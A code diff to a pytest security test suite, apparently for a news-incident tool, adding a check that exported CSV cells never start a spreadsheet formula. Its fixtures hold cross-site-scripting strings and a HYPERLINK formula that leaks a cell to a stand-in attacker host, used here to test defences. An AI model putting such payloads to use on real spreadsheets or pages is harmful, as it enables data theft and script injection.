@@ -4,6 +4,7 @@ stay inside their folder; SQL takes values only as parameters."""
 from __future__ import annotations
 
 import ast
+import csv
 import json
 import re
 from pathlib import Path
@@ -20,6 +21,7 @@ SRC = Path(__file__).resolve().parents[2] / "src" / "parallax"
 SCRIPT = "<script>alert('x')</script>"
 ATTRIBUTE = '" onmouseover="alert(1)" x="'
 IMAGE = "<img src=x onerror=alert(2)>"
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"details")'
 HOSTILE = {
     "title": f"Blast kills seven {SCRIPT}",
     "outlet": f"Wire {ATTRIBUTE}",
@@ -30,7 +32,7 @@ HOSTILE = {
              f"provincial governor {ATTRIBUTE} said the death toll could rise."),
 }
 SECOND = dict(HOSTILE, url="JaVaScRiPt:alert(3)", outlet="<b>Bold outlet</b>",
-              text=HOSTILE["text"].replace("seven people", "eight people") + " Second report.")
+              text=FORMULA + " " + HOSTILE["text"].replace("seven people", "eight people"))
 
 
 @pytest.fixture(scope="module")
@@ -84,6 +86,23 @@ def test_exports_stay_inside_out_and_unknown_formats_write_nothing(stored, tmp_p
     with pytest.raises(UnsupportedFormat):
         export(run.incidents, run.articles, tmp_path / "other", ("../../escape",))
     assert sorted(p.name for p in tmp_path.iterdir()) == ["out"]
+
+
+def test_csv_cells_never_start_a_formula(stored, tmp_path):
+    run, _ = stored
+    written = export(run.incidents, run.articles, tmp_path / "out", ("csv",))
+    cells = [cell for path in written for row in csv.reader(path.open(encoding="utf-8")) for cell in row]
+    assert any(FORMULA in cell for cell in cells), "the hostile sentence should reach claims.csv"
+    assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))]
+    assert not [c for c in cells if c.startswith("-") and not _is_number(c)]
+
+
+def _is_number(cell: str) -> bool:
+    try:
+        float(cell)
+    except ValueError:
+        return False
+    return True
 
 
 # An f-string SQL statement may interpolate only what comes from code: "?" placeholders (a
